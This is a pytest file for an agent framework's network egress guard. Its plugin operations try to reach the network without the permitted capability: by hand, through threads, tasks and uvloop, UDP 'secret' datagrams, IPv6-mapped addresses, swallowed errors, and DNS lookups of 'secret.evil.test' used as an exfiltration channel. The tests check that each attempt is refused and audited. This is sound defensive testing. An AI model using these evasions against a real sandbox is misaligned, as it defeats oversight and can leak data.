"""The guard: what connects in this process without a capability is refused and recorded, in every thread and task."""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import AsyncGenerator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from superagent.core.invocation import Invocation
from superagent.core.problems import Denied
from superagent.runtime.net.guard import Guard, Note, check, hook, permitting
from superagent.runtime.net.loops import new_event_loop
from superagent.runtime.net.network import open_network
from superagent.sdk import Context, Effect, Nothing, Plugin, Risk
from superagent.testing import World, agent
from tests.runtime.net.outside import LOOPBACK, Names

sly = Plugin("sly", reaches=("net",))
PORT = {"port": 0}


def connect(port: int) -> None:
    socket.create_connection(("127.0.0.1", port), 5).close()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def directly(ctx: Context, port: int) -> Nothing:
    """Connect by hand."""
    connect(port)
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def in_a_thread(ctx: Context, port: int) -> Nothing:
    """Connect by hand, in a thread of the platform."""
    await ctx.thread(connect, port)
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def in_a_thread_of_its_own(ctx: Context, port: int) -> Nothing:
    """Connect by hand, in a thread that nobody knows of."""
    caught: list[BaseException] = []

    def run() -> None:
        try:
            connect(port)
        except Denied as refused:
            caught.append(refused)

    thread = threading.Thread(target=run)
    thread.start()
    await ctx.thread(thread.join)
    raise caught[0]


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def by_asyncio(ctx: Context, port: int) -> Nothing:
    """Connect by the event loop."""
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.close()
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def in_a_task(ctx: Context, port: int) -> Nothing:
    """Connect in a task, beside a permitted connection."""
    task = asyncio.create_task(asyncio.to_thread(connect, port))
    await task
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def after_a_permitted_one(ctx: Context, port: int) -> Nothing:
    """Connect by the capability first and by hand to the same place then."""
    async with ctx.net.dial("a.test", port):
        connect(port)
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def swallowing(ctx: Context, port: int) -> Nothing:
    """Connect by hand and hide that it failed."""
    try:
        connect(port)
    except Exception:
        return Nothing()
    raise AssertionError("it was let through")


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def quietly(ctx: Context, port: int) -> Nothing:
    """Connect without an exception where it fails."""
    with socket.socket() as sock:
        sock.connect_ex(("127.0.0.1", port))
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def by_datagram(ctx: Context, port: int) -> Nothing:
    """Send a datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"secret", ("127.0.0.1", port))
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def by_message(ctx: Context, port: int) -> Nothing:
    """Send a datagram by the other call."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendmsg([b"secret"], [], 0, ("127.0.0.1", port))
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def by_fast_open(ctx: Context, port: int) -> Nothing:
    """Send with the first packet."""
    with socket.socket() as sock:
        sock.sendto(b"secret", socket.MSG_FASTOPEN, ("127.0.0.1", port))
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def by_ipv6(ctx: Context, port: int) -> Nothing:
    """Connect to the same place in another coat."""
    with socket.socket(socket.AF_INET6) as sock:
        sock.connect(("::ffff:127.0.0.1", port))
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def by_name(ctx: Context, port: int) -> Nothing:
    """Ask for a name, which tells its servers what it holds."""
    socket.getaddrinfo("secret.evil.test", port)
    return Nothing()


@sly.operation(risk=Risk.LOW, effect=Effect.READ)
async def by_old_names(ctx: Context, port: int) -> Nothing:
    """Ask for a name the old way."""
    socket.gethostbyname("secret.evil.test")
    return Nothing()


WAYS = [
    "directly", "in_a_thread", "in_a_thread_of_its_own", "by_asyncio", "in_a_task", "after_a_permitted_one", "quietly",
    "by_datagram", "by_message", "by_fast_open", "by_ipv6", "by_name", "by_old_names",
]  # fmt: skip


def noting(noted: list[Any]) -> Note:
    """Give what keeps each refusal in a list."""

    def note(call: Invocation | None, place: str, what: str) -> None:
        noted.append((call, place, what))

    return note


class Port:
    """A real port that nobody may reach, and how many did."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.setblocking(False)
        self.number = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.number))
        self.udp.setblocking(False)

    def reached(self) -> int:
        """Take what came, and count it."""
        count = 0
        for take in (lambda: self.tcp.accept()[0].close(), lambda: self.udp.recv(100)):
            try:
                while True:
                    take()
                    count += 1
            except BlockingIOError:
                continue
        return count

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@asynccontextmanager
async def sly_world() -> AsyncGenerator[tuple[World, Port]]:
    port, made = Port(), World(sly)
    names = Names({"a.test": ["127.0.0.1"]})
    with open_network(made.audit.note, made.clock.now, allow_private=LOOPBACK, resolve=names) as network:
        made.kernel.hands.capabilities["net"] = network.reach
        try:
            yield made, port
        finally:
            port.close()


@pytest.mark.parametrize("way", WAYS)
async def test_a_connection_by_hand_is_refused_and_recorded(way: str) -> None:
    async with sly_world() as (here, port):
        outcome = await here.run(f"sly.{way}", {"port": port.number}, by=agent())
        assert outcome.problem is not None, way
        assert outcome.problem.slug == "denied", outcome.problem.detail
        assert "ctx.net" in str(outcome.problem.hint)
        assert port.reached() == (way == "after_a_permitted_one")
        records = [one for one in here.audit.records if one.operation == "egress.refused"]
        assert [(one.kind, one.detail["by"], one.problem) for one in records] == [("refused", "code", "denied")]
        if way != "in_a_thread_of_its_own":  # whose call that was cannot be told
            assert (records[0].invocation, records[0].who) == (outcome.invocation, "builder")
            assert records[0].detail["inside"] == f"sly.{way}"


async def test_the_same_connections_work_without_the_guard() -> None:
    port, here = Port(), World(sly)
    try:
        for way in WAYS:
            if way in ("after_a_permitted_one", "in_a_thread_of_its_own", "by_name", "by_old_names"):
                continue
            await here.run(f"sly.{way}", {"port": port.number}, by=agent())
            assert port.reached() == 1, way
    finally:
        port.close()


async def test_a_refusal_that_is_swallowed_is_recorded_all_the_same() -> None:
    async with sly_world() as (here, port):
        assert (await here.run("sly.swallowing", {"port": port.number}, by=agent())).result() == {}
        assert port.reached() == 0
        assert here.audit.kinds().count("refused egress.refused") == 1


async def test_a_flood_of_refusals_is_counted_and_not_listed() -> None:
    async with sly_world() as (here, port):
        for _ in range(200):
            with pytest.raises(Denied):
                connect(port.number)
    records = [one for one in here.audit.records if one.operation == "egress.refused"]
    assert len(records) < 30
    assert sum(one.count for one in records) == 200


def test_unix_sockets_and_accepting_are_not_hindered(tmp_path: Path) -> None:
    noted: list[Any] = []
    with Guard(noting(noted)).standing():
        with socket.socket(socket.AF_UNIX) as server, socket.socket(socket.AF_UNIX) as client:
            server.bind(str(tmp_path / "s"))
            server.listen()
            client.connect(str(tmp_path / "s"))
        left, right = socket.socketpair()
        left.close()
        right.close()
        socket.create_server(("127.0.0.1", 0)).close()
        assert socket.getaddrinfo("127.0.0.1", 80)
        assert socket.getaddrinfo("localhost", 80)
        assert socket.getaddrinfo(None, 80)
    assert noted == []


def test_what_was_declared_and_what_is_permitted_is_let_through_and_nothing_beside_it() -> None:
    noted: list[Any] = []
    guard = Guard(noting(noted))
    guard.declare("127.0.0.1", 5432)
    guard.declare("db.test", 0)
    with guard.standing():
        check("127.0.0.1", 5432)
        check("db.test", 1)
        check(b"db.test", 2)
        with permitting(("10.0.0.1", 80)):
            check("10.0.0.1", 80)
            with pytest.raises(Denied):
                check("10.0.0.1", 81)
        for host, port in (("127.0.0.1", 5433), ("127.0.0.2", 5432), ("10.0.0.1", 80)):
            with pytest.raises(Denied):
                check(host, port)
    check("127.0.0.1", 5433)  # nobody stands guard any more
    assert [place for _, place, _ in noted] == ["10.0.0.1:81", "127.0.0.1:5433", "127.0.0.2:5432", "10.0.0.1:80"]
    assert {call for call, _, _ in noted} == {None}


def test_kinds_of_sockets_that_nobody_needs_are_refused() -> None:
    with (
        Guard(noting([])).standing(),
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) as sock,
        pytest.raises(Denied, match="family 16"),
    ):
        sock.connect((0, 0))


def test_the_hook_looks_at_sockets_only_and_closes_what_it_refuses() -> None:
    noted: list[Any] = []
    with socket.socket() as sock, socket.socket(socket.AF_UNIX) as local:
        hook("socket.connect", (sock, ("127.0.0.1", 1)))  # nobody stands guard
        with Guard(noting(noted)).standing():
            hook("open", ("/etc/passwd", "r", 0))
            hook("socket.connect", (local, "/run/x"))
            hook("socket.sendmsg", (sock, None))
            hook("socket.getaddrinfo", (None, 80, 0, 0, 0))
            hook("socket.getaddrinfo", (b"127.0.0.1", "80", 0, 0, 0))
            hook("socket.gethostbyname", ("localhost",))
            assert noted == []
            for event, args in (
                ("socket.getaddrinfo", (b"secret.evil.test", b"http", 0, 0, 0)),
                ("socket.gethostbyaddr", ("evil.test",)),
                ("socket.connect", (sock, ("127.0.0.1", 1))),
            ):
                with pytest.raises(Denied):
                    hook(event, args)
    assert sock.fileno() == -1
    assert [(place, what) for _, place, what in noted] == [
        ("secret.evil.test:0", "look up"), ("evil.test:0", "look up"), ("127.0.0.1:1", "connect"),
    ]  # fmt: skip


# ---- the server's own event loop connects in C, where no hook looks


def in_uvloop(work: Callable[[int], Any], port: int) -> None:
    loop = new_event_loop()
    try:
        loop.run_until_complete(work(port))
    finally:
        loop.close()


async def open_by_uvloop(port: int) -> None:
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.close()


async def name_by_uvloop(port: int) -> None:
    await asyncio.get_running_loop().getaddrinfo("secret.evil.test", port)


async def datagram_by_uvloop(port: int) -> None:
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        asyncio.DatagramProtocol, remote_addr=("127.0.0.1", port)
    )
    transport.close()
    await asyncio.sleep(0.05)


async def open_datagram_by_uvloop(port: int) -> None:
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, local_addr=("127.0.0.1", 0))
    transport.sendto(b"secret", ("127.0.0.1", port))
    await asyncio.sleep(0.05)
    transport.close()


async def socket_by_uvloop(port: int) -> None:
    with socket.socket() as sock:
        sock.setblocking(False)
        await asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", port))


@pytest.mark.parametrize(
    "work", [open_by_uvloop, name_by_uvloop, datagram_by_uvloop, open_datagram_by_uvloop, socket_by_uvloop]
)
def test_the_servers_own_loop_asks_the_guard_as_well(work: Callable[[int], Any]) -> None:
    port, noted = Port(), list[Any]()
    try:
        with Guard(noting(noted)).standing(), pytest.raises(Denied):
            in_uvloop(work, port.number)
        assert port.reached() == 0
        assert len(noted) == 1
        if work is not name_by_uvloop:
            in_uvloop(work, port.number)
            assert port.reached() == (work is not datagram_by_uvloop)
    finally:
        port.close()


def test_the_servers_own_loop_does_what_is_permitted() -> None:
    port = Port()

    async def permitted(number: int) -> None:
        with permitting(("127.0.0.1", number)):
            await open_by_uvloop(number)
            near, far = socket.socketpair()
            with far:
                _, writer = await asyncio.open_connection(sock=near)
                writer.close()
            assert await asyncio.get_running_loop().getaddrinfo("127.0.0.1", number)

    try:
        with Guard(noting([])).standing():
            in_uvloop(permitted, port.number)
        assert port.reached() == 1
    finally:
        port.close()
